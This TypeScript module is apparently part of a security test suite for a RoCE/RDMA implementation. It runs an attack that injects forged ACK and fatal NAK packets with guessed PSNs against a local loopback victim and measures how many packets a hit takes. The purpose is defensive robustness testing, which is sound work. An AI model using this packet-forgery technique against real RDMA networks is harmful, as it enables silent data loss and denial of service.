/**
 * A requester has packets outstanding that nobody has acknowledged. Forged ACKs with random PSNs make it believe in
 * deliveries that never were, and forged NAKs kill its queue pair, when they name one of the outstanding packets. One
 * that names any other must have no effect at all.
 */
import { Opcode } from '../../../src/roce/wire/opcodes.js';
import type { Attack, AttackContext, Outcome } from '../attack.js';
import { type Barrage, fire } from '../barrage.js';
import { Injector } from '../injector.js';
import { HOSTS } from '../loopback.js';
import { PacketTemplate } from '../packet-template.js';
import { duration, fitsWaiting, rounded } from '../statistics.js';
import { startVerbsVictim } from '../victims/start.js';
import type { Target } from '../victims/verbs-victim.js';

const BITS = 16;
const SPACE = 2 ** BITS;
const FULL_SPACE = 2 ** 24;
const RUNS = 32;
/** Packets outstanding: the window that every queue pair starts with. */
const OUTSTANDING = 16;
const ACK = 0x1f;
const NAK_REMOTE_ACCESS = 0x62;
/** No run needs that many: it would be one in a million. */
const MOST_TRIES = (14 * SPACE) / OUTSTANDING;

const isOutstanding = (psn: number, { clientPsn }: Target): boolean =>
  (psn - clientPsn + FULL_SPACE) % FULL_SPACE < OUTSTANDING;

function template({ injector }: Barrage, { clientQpn }: Target, syndrome: number): PacketTemplate {
  const spec = { opcode: Opcode.RC_ACKNOWLEDGE, psn: 0, destQpn: clientQpn, aeth: { syndrome, msn: 1 } };
  return new PacketTemplate(spec, injector.source, injector.destination);
}

/** Packets until one took effect; `undefined` when what happened is not what the packets' PSNs say. */
async function untilHit(
  barrage: Barrage,
  target: Target,
  syndrome: number,
  { random }: AttackContext,
): Promise<number | undefined> {
  const packets = template(barrage, target, syndrome);
  const first = await barrage.victim.call('report', 'client');
  let tries: number | undefined;
  let hasEffect = false;
  await fire(
    barrage,
    MOST_TRIES,
    (index) => {
      const psn = random.u32() >>> (32 - BITS);
      if (isOutstanding(psn, target)) tries ??= index + 1;
      return packets.psn(psn).packet();
    },
    async () => {
      const { sent, state } = await barrage.victim.call('report', 'client');
      hasEffect = syndrome === ACK ? sent > first.sent : state === 'ERR';
      return hasEffect || tries !== undefined;
    },
  );
  return hasEffect ? tries : undefined;
}

/** Every PSN of the reduced space but the outstanding ones. Returns the effects that it had: none. */
async function ghosts(barrage: Barrage, target: Target): Promise<{ tries: number; effects: number }> {
  const packets = template(barrage, target, ACK);
  const psns = Array.from({ length: SPACE }, (_, psn) => psn).filter((psn) => !isOutstanding(psn, target));
  const before = await barrage.victim.call('report', 'client');
  const tries = await fire(barrage, psns.length, (index) => packets.psn(psns[index] as number).packet());
  const after = await barrage.victim.call('report', 'client');
  return { tries, effects: after.sent - before.sent + (after.state === 'RTS' ? 0 : 1) };
}

async function run(context: AttackContext): Promise<Outcome> {
  await using victim = await startVerbsVictim(context, { psnBits: BITS });
  await victim.call('connect', 0);
  await using injector = await Injector.open(HOSTS.server, HOSTS.client);
  const barrage: Barrage = { victim, which: 'client', injector };
  let tries = 0;
  let hits = 0;
  const startedAt = performance.now();
  for (let number = 0; number < RUNS; number++) {
    await victim.call('disconnect');
    const target = await victim.call('connect', 0);
    await victim.call('sendIntoTheVoid', OUTSTANDING);
    const syndrome = number % 2 === 0 ? ACK : NAK_REMOTE_ACCESS;
    const needed = await untilHit(barrage, target, syndrome, context);
    if (needed !== undefined) hits++;
    tries += needed ?? MOST_TRIES;
    context.progress(`run ${number + 1} of ${RUNS}, ${tries} packets`);
  }
  const rate = tries / ((performance.now() - startedAt) / 1000);
  await victim.call('disconnect');
  const target = await victim.call('connect', 0);
  await victim.call('sendIntoTheVoid', OUTSTANDING);
  const outside = await ghosts(barrage, target);
  const probability = OUTSTANDING / SPACE;
  return {
    tries,
    hits,
    expected: tries * probability,
    pass: hits === RUNS && fitsWaiting(tries, RUNS, probability) && outside.effects === 0,
    note:
      `${OUTSTANDING} packets outstanding, ${BITS} bits, ACKs and fatal NAKs in turn; ${outside.tries} forged ACKs for ` +
      `other PSNs: ${outside.effects} effects; on 2^24 a hit takes ${rounded(FULL_SPACE / OUTSTANDING)} packets, ` +
      `${duration(FULL_SPACE / OUTSTANDING / rate)} at the ${rounded(rate)} packets/s of this sender`,
  };
}

export const FORGED_ACK: Attack = {
  name: 'A4',
  title: 'forged ACKs and NAKs for packets that are outstanding',
  run,
};
